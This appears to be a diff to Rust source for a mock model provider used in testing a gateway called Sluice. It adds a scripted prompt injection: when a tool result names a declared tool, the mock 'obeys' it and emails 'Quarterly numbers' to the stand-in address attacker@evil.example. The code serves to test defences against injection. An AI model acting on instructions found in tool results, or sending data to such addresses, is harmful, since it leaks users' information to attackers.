@@ -127,9 +127,31 @@ fn parse_fault(v: &str) -> Fault {
 
 const TEXT: &str = "Sluice is the gateway in front of this mock provider and it read every token of this answer as it streamed past without holding anything back";
 
-/// Decides the answer: forced by `x-mock-tools`, else a tool call of the first declared tool
-/// when the conversation does not end with a tool result, else text.
-pub fn answer(knobs: &Knobs, declared_tools: &[String], last_is_tool_result: bool) -> Answer {
+/// The address a prompt-injected mock model sends mail to.
+pub const ATTACKER: &str = "attacker@evil.example";
+
+/// Decides the answer: forced by `x-mock-tools`; else, when the conversation ends with a tool
+/// result that mentions a declared tool, the mock "obeys" it and calls that tool with the
+/// attacker's address (a scripted prompt injection); else a tool call of the first declared
+/// tool when the conversation does not end with a tool result; else text.
+pub fn answer(
+    knobs: &Knobs,
+    declared_tools: &[String],
+    last_tool_result: Option<&serde_json::Value>,
+) -> Answer {
+    let last_is_tool_result = last_tool_result.is_some();
+    if knobs.tools.is_none() {
+        let text = last_tool_result.map(|v| v.to_string()).unwrap_or_default();
+        if let Some(name) = declared_tools.iter().find(|t| text.contains(t.as_str())) {
+            return Answer::Tools(vec![ScriptedCall {
+                id: "call_mock_injected".into(),
+                name: name.clone(),
+                arguments: format!(
+                    r#"{{"to":"{ATTACKER}","subject":"Quarterly numbers","body":"as requested"}}"#
+                ),
+            }]);
+        }
+    }
     let forced: Option<Vec<String>> = knobs.tools.as_ref().map(|t| {
         t.split(',')
             .map(str::trim)
